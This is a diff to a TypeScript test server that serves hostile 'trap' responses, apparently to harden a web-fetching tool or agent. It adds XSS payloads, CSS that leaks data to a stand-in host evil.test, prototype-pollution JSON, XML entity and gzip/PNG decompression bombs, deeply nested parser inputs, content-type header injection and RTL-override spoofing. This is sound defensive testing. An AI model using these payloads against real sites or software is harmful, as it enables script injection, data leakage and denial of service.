@@ -3,7 +3,7 @@ import { createHash } from 'node:crypto';
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import type { Duplex } from 'node:stream';
-import { brotliCompressSync, gzipSync } from 'node:zlib';
+import { brotliCompressSync, crc32, deflateSync, gzipSync } from 'node:zlib';
 
 /** A picture of 2 x 2 pixels. */
 const PNG = Buffer.from(
@@ -25,6 +25,9 @@ const order = {
   note: null,
 };
 
+/** What turns the direction of writing, as bytes of a header field. */
+const TURNED = Buffer.from('\u202egnp.exe\u2066 \u001b[31mred').toString('latin1').replace(/[\0-\x1f\x7f]/g, '');
+
 /** A model that looks around once, then answers; a helper that it asks answers at once. */
 function model(messages: { role: string; content: unknown }[]): unknown[] {
   const first = JSON.stringify(messages[0]);
@@ -40,10 +43,27 @@ function model(messages: { role: string; content: unknown }[]): unknown[] {
   return [{ type: 'text', text: `answer number ${messages.length}` }];
 }
 
-const NEST = 20_000;
+const NEST = 100_000;
+
+/** A picture of one colour with sides of so many pixels: few bytes that want very much memory. */
+function hugePicture(side: number): Buffer {
+  const chunk = (name: string, data: Buffer) => {
+    const named = Buffer.concat([Buffer.from(name), data]);
+    const [length, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
+    length.writeUInt32BE(data.length);
+    sum.writeUInt32BE(crc32(named));
+    return Buffer.concat([length, named, sum]);
+  };
+  // One bit to a pixel, grey.
+  const head = Buffer.from([0, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0]);
+  head.writeUInt32BE(side);
+  head.writeUInt32BE(side, 4);
+  const rows = deflateSync(Buffer.alloc((Math.ceil(side / 8) + 1) * side));
+  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10]), chunk('IHDR', head), chunk('IDAT', rows), chunk('IEND', Buffer.alloc(0))]);
+}
 
 /** Bodies that would like to run, to lie about what they are, or to take the page down with them. */
-export const TRAPS: Record<string, { type: string; body: string | Buffer; coding?: string }> = {
+export const TRAPS: Record<string, { type: string; body: string | Buffer | (() => Buffer); coding?: string }> = {
   html: { type: 'text/html', body: `<!doctype html><base href="http://evil.test/"><meta http-equiv="refresh" content="0;url=http://evil.test/">${HOSTILE}<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><form action="http://evil.test/"><button autofocus onfocus="window.pwned=1">` },
   svg: { type: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="window.pwned=1"><script>window.pwned=1</script><foreignObject><iframe src="javascript:parent.pwned=1"/></foreignObject></svg>` },
   script: { type: 'text/javascript', body: `window.pwned=1;</script><script>window.pwned=1</script>` },
@@ -55,7 +75,20 @@ export const TRAPS: Record<string, { type: string; body: string | Buffer; coding
   wide: { type: 'application/json', body: `[${'0,'.repeat(100_000)}0]` },
   names: { type: 'application/json', body: `{"__proto__":{"pwned":1},"constructor":${JSON.stringify(HOSTILE)},${JSON.stringify(HOSTILE)}:1}` },
   markup: { type: 'application/xml', body: `<!DOCTYPE a [<!ENTITY b "bbbbbbbbbb"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${'<a>'.repeat(NEST)}&c;` },
-  packed: { type: 'text/plain', body: gzipSync(Buffer.alloc(60_000_000)), coding: 'gzip' },
+  packed: { type: 'text/plain', body: () => gzipSync(Buffer.alloc(60_000_000)), coding: 'gzip' },
+  line: { type: 'application/json', body: `{"a":"${'x'.repeat(10_000_000)}"}` },
+  css: { type: 'text/html', body: `<link rel="stylesheet" href="http://evil.test/a.css"><style>@import "http://evil.test/b.css";*{background:url(http://evil.test/c)}input[value^="a"]{background:url(http://evil.test/d)}</style><input value="abc" style="background:url(http://evil.test/e)">` },
+  links: { type: 'text/plain', body: `javascript:window.pwned=1 <a href="javascript:window.pwned=1">a</a> [a](javascript:window.pwned=1) data:text/html,<script>opener.pwned=1</script>` },
+  nulls: { type: 'text/plain', body: Buffer.from('a\0b\0\0c\r\n\x0b\x0c\x85'.repeat(1000), 'latin1') },
+  lying: { type: 'image/png', body: `<html>${HOSTILE}</html>` },
+  hidden: { type: 'text/plain', body: `<!doctype html>${HOSTILE}`, coding: 'gzip' },
+  odd: { type: `text/html"><script>window.pwned=1</script>; charset="utf-7`, body: `+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-${HOSTILE}` },
+  wider: { type: 'text/html; charset=utf-16', body: Buffer.from(HOSTILE, 'utf16le') },
+  pixels: { type: 'image/png', body: () => hugePicture(30_000) },
+  graph: { type: 'application/graphql', body: `query ${'{a'.repeat(5000)}` },
+  pack: { type: 'application/msgpack', body: Buffer.from([0xdf, 0xff, 0xff, 0xff, 0xff, ...Array<number>(2000).fill(0x91)]) },
+  proto: { type: 'application/x-protobuf', body: Buffer.from(Array.from({ length: 3000 }, () => [0x0a, 0xff, 0x7f]).flat()) },
+  ndjson: { type: 'application/x-ndjson', body: `${JSON.stringify({ [HOSTILE]: HOSTILE })}\n`.repeat(20_000) },
   half: { type: 'application/json', body: Buffer.from([0xff, 0xfe, 0x7b, 0x00, 0x22]) },
   playlist: { type: 'application/vnd.apple.mpegurl', body: `#EXTM3U\n#EXTINF:1e308,\n${HOSTILE}\n` },
   form: { type: 'application/x-www-form-urlencoded', body: `a=${encodeURIComponent(HOSTILE)}&%00=%1b%5b31m&=&&&` },
@@ -181,8 +214,8 @@ export async function startOrigin(): Promise<{ server: Server; address: string }
       const trap = TRAPS[path.replace('/trap/', '')];
       if (path.startsWith('/trap/') && trap) {
         const coding = trap.coding ? { 'content-encoding': trap.coding } : {};
-        response.writeHead(200, { 'content-type': trap.type, 'x-evil': HOSTILE, 'x-long': 'v'.repeat(20_000), ...coding });
-        response.end(trap.body);
+        response.writeHead(200, { 'content-type': trap.type, 'x-evil': HOSTILE, 'x-long': 'v'.repeat(20_000), [`x-${'n'.repeat(8000)}`]: TURNED, ...coding });
+        response.end(typeof trap.body === 'function' ? trap.body() : trap.body);
         return;
       }
       const answer = answers[path] ?? ((_, r) => r.writeHead(200, { 'content-type': 'text/plain' }).end(`hello ${path}`));
